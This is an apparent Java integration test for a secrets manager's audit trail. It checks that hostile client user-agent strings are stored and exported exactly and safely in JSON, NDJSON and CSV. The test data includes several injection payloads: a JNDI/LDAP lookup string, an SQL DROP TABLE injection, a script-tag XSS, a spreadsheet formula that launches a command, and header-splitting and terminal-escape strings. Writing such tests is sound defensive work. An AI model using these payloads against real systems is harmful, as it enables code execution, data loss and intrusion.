package io.claviger.spring.web;

import static org.assertj.core.api.Assertions.assertThat;

import io.claviger.api.CallerContext;
import io.claviger.api.SecretsManager;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * Whatever a client calls itself, an event is one row, in every form, and says it exactly; or
 * without what no database takes, or cut with a mark.
 */
class HostileTrailIT {
  private static final String NAME = "hostile-trail/a";
  private static final String QUERY = "?action=READ&limit=1000&resource_name=" + NAME;
  private static final int LONGEST = 512;

  private static final List<String> AGENTS =
      List.of(
          "two\r\nlines\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
          "\u001b[2J\u001b]0;owned\u0007\u009b31m\u0000\u007f",
          "{\"id\":7,\"result\":\"SUCCESS\"}\n{\"id\":8,\"result\":\"SUCCESS\"}",
          "\"},{\"id\":9",
          "\",\"x\",\"y\"\r\n\"10\",\"READ\"",
          "=cmd|' /C calc'!A0",
          "\u202etxt.exe\u2028\u2029\ufeff",
          "\ud83d\udd11 Gr\u00fc\u00dfe \u6f22\u5b57 \ud800 half",
          "</script><script>alert(1)</script>",
          "'; DROP TABLE secrets_audit_log; --",
          "${jndi:ldap://example.net/a} {{7*7}} %s %n",
          "\ud83d\udd11".repeat(32 * 1024),
          "y".repeat(64 * 1024));

  /** What the trail must say. */
  private static String recorded(String agent) {
    String stored = agent.replace('\u0000', '\ufffd').replace("\ud800 ", "\ufffd ");
    if (stored.length() <= LONGEST) {
      return stored;
    }
    // Not through a pair of surrogates.
    int end = Character.isHighSurrogate(stored.charAt(LONGEST - 2)) ? LONGEST - 2 : LONGEST - 1;
    return stored.substring(0, end) + "\u2026";
  }

  @BeforeAll
  static void read() {
    Http.create(NAME, "v");
    SecretsManager secrets = TestApplication.claviger().secrets();
    for (int i = 0; i < AGENTS.size(); i++) {
      CallerContext caller =
          CallerContext.of("alice", "192.0.2." + i, AGENTS.get(i), "request " + AGENTS.get(i));
      secrets.as(caller).get(NAME).value().close();
    }
  }

  private static List<String> expected() {
    return AGENTS.reversed().stream().map(HostileTrailIT::recorded).toList();
  }

  private static void assertExact(List<JsonNode> events) {
    assertThat(events)
        .extracting(event -> event.get("actor_user_agent").asString())
        .isEqualTo(expected());
    for (int i = 0; i < events.size(); i++) {
      assertThat(events.get(i).get("actor_ip").asString())
          .isEqualTo("192.0.2." + (AGENTS.size() - 1 - i));
      assertThat(events.get(i).get("result").asString()).isEqualTo("SUCCESS");
    }
    assertThat(events)
        .extracting(event -> event.get("request_id").asString())
        .allMatch(id -> id.startsWith("request ") && id.length() <= 128);
  }

  @Test
  void isOneObjectOfAPage() {
    List<JsonNode> events = new ArrayList<>();
    Http.get("/api/v1/audit" + QUERY).json().get("items").forEach(events::add);
    assertExact(events);
  }

  @Test
  void isOneLineOfJson() {
    String text = Http.get("/api/v1/audit:export" + QUERY.replace("&limit=1000", "")).text();
    assertThat(text).endsWith("}\n");
    String[] lines = text.substring(0, text.length() - 1).split("\n", -1);
    assertThat(lines).hasSize(AGENTS.size()).noneMatch(line -> line.contains("\r"));
    List<JsonNode> events = new ArrayList<>();
    for (String line : lines) {
      events.add(Http.JSON.readTree(line));
    }
    assertExact(events);
  }

  @Test
  void isOneRecordOfCsv() {
    String query = QUERY.replace("&limit=1000", "") + "&format=csv";
    List<List<String>> records = records(Http.get("/api/v1/audit:export" + query).text());
    assertThat(records.getFirst()).hasSize(13).startsWith("id", "action", "resource_name");
    int agent = records.getFirst().indexOf("actor_user_agent");
    List<List<String>> rows = records.subList(1, records.size());
    assertThat(rows).allMatch(row -> row.size() == 13 && row.get(2).equals(NAME));
    assertThat(rows).hasSameSizeAs(AGENTS);
    List<String> expected = expected();
    for (int i = 0; i < rows.size(); i++) {
      // What a spreadsheet could take for a formula begins with an apostrophe.
      assertThat(rows.get(i).get(agent)).isIn(expected.get(i), "'" + expected.get(i));
    }
    assertThat(rows.get(expected.indexOf("=cmd|' /C calc'!A0")).get(agent)).startsWith("'=cmd");
  }

  /** As RFC 4180 says it. */
  private static List<List<String>> records(String csv) {
    List<List<String>> records = new ArrayList<>();
    List<String> record = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (quoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
        cell.append('"');
        i++;
      } else if (c == '"') {
        quoted = !quoted;
      } else if (!quoted && (c == ',' || c == '\n')) {
        record.add(cell.toString());
        cell.setLength(0);
        if (c == '\n') {
          records.add(record);
          record = new ArrayList<>();
        }
      } else if (quoted || c != '\r') {
        cell.append(c);
      }
    }
    assertThat(cell).isEmpty();
    return records;
  }
}
